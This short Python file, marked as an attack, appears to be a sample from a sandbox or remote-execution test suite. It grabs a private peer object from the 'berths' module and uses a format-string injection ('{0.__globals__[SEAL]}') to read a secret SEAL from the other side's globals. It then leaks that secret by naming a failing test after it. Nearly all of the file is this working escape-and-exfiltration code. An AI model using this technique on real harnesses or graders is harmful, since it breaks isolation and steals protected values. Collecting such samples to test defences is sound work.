#{own_nothing}
# <attack>
import berths

_peer = object.__getattribute__(berths.__dict__["_remote"], "_peer")


def spy(pattern):
    """What a text on the other side makes of the function."""
    try:
        return _peer.request("get", pattern, "format")(free)
    except Exception:
        return ""


def fails():
    free(1, [])
    raise AssertionError


globals()["test_" + (spy("{0.__globals__[SEAL]}") or "kx" + "9qmadeup")] = fails
# </attack>
